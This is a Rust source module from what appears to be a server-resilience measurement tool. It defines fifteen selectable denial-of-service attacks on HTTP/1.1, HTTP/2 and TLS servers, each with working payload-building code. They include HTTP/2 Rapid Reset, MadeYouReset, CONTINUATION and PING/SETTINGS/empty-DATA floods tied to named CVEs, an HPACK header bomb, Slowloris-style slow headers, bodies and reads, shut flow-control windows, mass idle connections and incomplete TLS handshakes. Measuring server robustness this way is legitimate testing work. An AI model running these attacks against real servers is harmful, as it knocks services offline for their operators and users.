//! Which attacks there are, and what each sends.

use std::time::Duration;

use super::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NEWEST, OPENING, OPENING_SHUT,
    PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, get, literal, post, remembered,
};

/// One attack.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Attack {
    /// As given to `--attack`.
    pub(crate) name: &'static str,
    /// For the table.
    pub(crate) what: &'static str,
    /// Connections that it keeps open, as long as it may.
    pub(crate) connections: usize,
    /// What they speak.
    pub(crate) speaks: Speaks,
    /// How the README's table of memory calls what its connections are in.
    pub(super) state: &'static str,
    pub(super) way: Way,
}

impl Attack {
    /// Whether it lives by how many connections it holds.
    pub(super) fn holds(&self) -> bool {
        matches!(self.way, Way::Drip { .. })
    }
}

/// The protocol of an attack's connections, and so where they go.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Speaks {
    Http1,
    Http2,
    Tls,
}

/// Of those who send nothing.
const NEVER: Duration = Duration::from_secs(3600);

/// How an attack goes about it.
#[derive(Debug, Clone, Copy)]
pub(super) enum Way {
    /// As much as the socket takes: an opening, then batch after batch.
    Flood {
        opening: fn(&mut Vec<u8>),
        /// The next batch; the stream's number goes on from batch to batch.
        batch: fn(&mut Vec<u8>, &mut u32),
    },
    /// As little as keeps the connection busy.
    Drip {
        opening: fn(usize) -> Vec<u8>,
        /// Sent again and again; empty sends nothing.
        drop: &'static [u8],
        /// Bytes read each time; 0 leaves everything in the sockets.
        sips: usize,
        every: Duration,
    },
    /// The first message of TLS handshakes; what follows is left to the server.
    Hello,
}

/// The attacks, in the order of the table.
pub(crate) const ALL: [Attack; 15] = [
    Attack {
        name: "calm",
        what: "one connection that says nothing: what the measurement itself makes of it",
        connections: 1,
        speaks: Speaks::Http1,
        state: "HTTP/1.1, between two requests",
        way: Way::Drip {
            opening: |_| Vec::new(),
            drop: b"",
            sips: 0,
            every: NEVER,
        },
    },
    flood(
        "rapid-reset",
        "HTTP/2 requests, each cancelled at once (CVE-2023-44487)",
        rapid_reset,
    ),
    flood(
        "made-you-reset",
        "HTTP/2 requests, each made the server reset it (CVE-2025-8671)",
        made_you_reset,
    ),
    Attack {
        way: Way::Flood {
            opening: |out| {
                out.extend_from_slice(OPENING);
                frame(out, HEADERS, END_STREAM, 1, &get("/"));
            },
            batch: continuation,
        },
        ..flood(
            "continuation",
            "HTTP/2 header blocks without an end (CVE-2024-27316)",
            continuation,
        )
    },
    Attack {
        way: Way::Flood {
            opening: |out| {
                let mut block = get("/");
                remembered(&mut block, "x-bomb", &"b".repeat(4000));
                out.extend_from_slice(OPENING);
                frame(out, HEADERS, END_STREAM | END_HEADERS, 1, &block);
            },
            batch: header_bomb,
        },
        ..flood(
            "header-bomb",
            "HTTP/2 header blocks of 12 KiB that unpack to 48 MB",
            header_bomb,
        )
    },
    Attack {
        name: "huge-heads",
        what: "HTTP/1.1 heads of a megabyte in lines of 4 KiB",
        connections: 32,
        speaks: Speaks::Http1,
        state: "HTTP/1.1, a head that is not whole",
        way: Way::Flood {
            opening: |out| out.extend_from_slice(b"GET / HTTP/1.1\r\nHost: attacked\r\n"),
            batch: huge_head,
        },
    },
    flood("pings", "HTTP/2 PING without an end (CVE-2019-9512)", pings),
    flood(
        "settings",
        "HTTP/2 SETTINGS without an end (CVE-2019-9515)",
        settings,
    ),
    Attack {
        way: Way::Flood {
            opening: |out| {
                out.extend_from_slice(OPENING);
                frame(out, HEADERS, END_HEADERS, 1, &post());
            },
            batch: empty_data,
        },
        ..flood(
            "empty-data",
            "HTTP/2 DATA without a byte (CVE-2019-9518)",
            empty_data,
        )
    },
    Attack {
        name: "slow-heads",
        what: "heads of requests, a byte a second",
        connections: 2000,
        speaks: Speaks::Http1,
        state: "HTTP/1.1, a head that is not whole",
        way: Way::Drip {
            opening: |_| b"GET / HTTP/1.1\r\nHost: attacked\r\nX-Slow: ".to_vec(),
            drop: b"s",
            sips: 0,
            every: Duration::from_secs(1),
        },
    },
    Attack {
        name: "slow-bodies",
        what: "bodies of requests, a byte a second",
        connections: 1000,
        speaks: Speaks::Http1,
        state: "HTTP/1.1, a body that is waited for",
        way: Way::Drip {
            opening: |number| {
                format!(
                    "POST /up HTTP/1.1\r\nHost: attacked\r\nX-User-Id: user-{number}\r\nContent-Length: 60000\r\n\r\n"
                )
                .into_bytes()
            },
            drop: b"s",
            sips: 0,
            every: Duration::from_secs(1),
        },
    },
    Attack {
        name: "slow-readers",
        what: "answers of 1 MiB, read at 64 bytes a second",
        connections: 500,
        speaks: Speaks::Http1,
        state: "HTTP/1.1, an answer that is not taken",
        way: Way::Drip {
            opening: |number| {
                format!("GET /big HTTP/1.1\r\nHost: attacked\r\nX-User-Id: user-{number}\r\n\r\n")
                    .into_bytes()
            },
            drop: b"",
            sips: 64,
            every: Duration::from_secs(1),
        },
    },
    Attack {
        name: "shut-windows",
        what: "HTTP/2: a hundred answers of 1 MiB a connection, every window shut",
        connections: 50,
        speaks: Speaks::Http2,
        state: "HTTP/2, 100 answers that are not taken",
        way: Way::Drip {
            opening: |_| {
                let mut out = OPENING_SHUT.to_vec();
                let block = get("/big");
                for stream in (1..200).step_by(2) {
                    frame(&mut out, HEADERS, END_STREAM | END_HEADERS, stream, &block);
                }
                out
            },
            // A PING now and then: the connection is alive.
            drop: b"\x00\x00\x08\x06\x00\x00\x00\x00\x00alive...",
            sips: 4096,
            every: Duration::from_secs(1),
        },
    },
    Attack {
        name: "idle",
        what: "8000 connections, every second of them with one request made",
        connections: 8000,
        speaks: Speaks::Http1,
        state: "HTTP/1.1, between two requests",
        way: Way::Drip {
            opening: |number| {
                if number % 2 == 0 {
                    b"GET / HTTP/1.1\r\nHost: attacked\r\n\r\n".to_vec()
                } else {
                    Vec::new()
                }
            },
            drop: b"",
            sips: 0,
            every: NEVER,
        },
    },
    Attack {
        name: "handshakes",
        what: "TLS: the first message of a handshake, again and again, without the last",
        connections: 64,
        speaks: Speaks::Tls,
        state: "TLS, a handshake that is not whole",
        way: Way::Hello,
    },
];

const fn flood(
    name: &'static str,
    what: &'static str,
    batch: fn(&mut Vec<u8>, &mut u32),
) -> Attack {
    Attack {
        name,
        what,
        connections: 16,
        speaks: Speaks::Http2,
        state: "HTTP/2, 100 answers that are not taken",
        way: Way::Flood {
            opening: |out| out.extend_from_slice(OPENING),
            batch,
        },
    }
}

fn rapid_reset(out: &mut Vec<u8>, stream: &mut u32) {
    let block = get("/");
    for _ in 0..64 {
        frame(out, HEADERS, END_STREAM | END_HEADERS, *stream, &block);
        frame(out, RST_STREAM, 0, *stream, &CANCEL);
        *stream += 2;
    }
}

fn made_you_reset(out: &mut Vec<u8>, stream: &mut u32) {
    let block = get("/");
    for _ in 0..64 {
        frame(out, HEADERS, END_STREAM | END_HEADERS, *stream, &block);
        frame(out, WINDOW_UPDATE, 0, *stream, &[0; 4]);
        *stream += 2;
    }
}

fn continuation(out: &mut Vec<u8>, _: &mut u32) {
    let mut block = Vec::new();
    literal(&mut block, "x-more", &"m".repeat(1000));
    for _ in 0..16 {
        frame(out, CONTINUATION, 0, 1, &block);
    }
}

fn header_bomb(out: &mut Vec<u8>, stream: &mut u32) {
    // The first stream brought the field into the table.
    *stream += 2;
    let mut block = get("/");
    block.resize(12 * 1024, NEWEST);
    frame(out, HEADERS, END_STREAM | END_HEADERS, *stream, &block);
}

fn huge_head(out: &mut Vec<u8>, _: &mut u32) {
    out.extend_from_slice(b"X-Huge: ");
    out.resize(out.len() + 4096, b'h');
    out.extend_from_slice(b"\r\n");
}

fn pings(out: &mut Vec<u8>, _: &mut u32) {
    for _ in 0..256 {
        frame(out, PING, 0, 0, b"attacked");
    }
}

fn settings(out: &mut Vec<u8>, _: &mut u32) {
    for _ in 0..256 {
        frame(out, SETTINGS, 0, 0, &[]);
    }
}

fn empty_data(out: &mut Vec<u8>, _: &mut u32) {
    for _ in 0..256 {
        frame(out, DATA, 0, 1, &[]);
    }
}

/// The attack of this name.
///
/// # Errors
/// Which names there are.
pub(crate) fn named(name: &str) -> Result<Attack, String> {
    let known = ALL.iter().find(|attack| attack.name == name);
    known.copied().ok_or_else(|| {
        let names: Vec<&str> = ALL.iter().map(|attack| attack.name).collect();
        format!("there are {}", names.join(", "))
    })
}
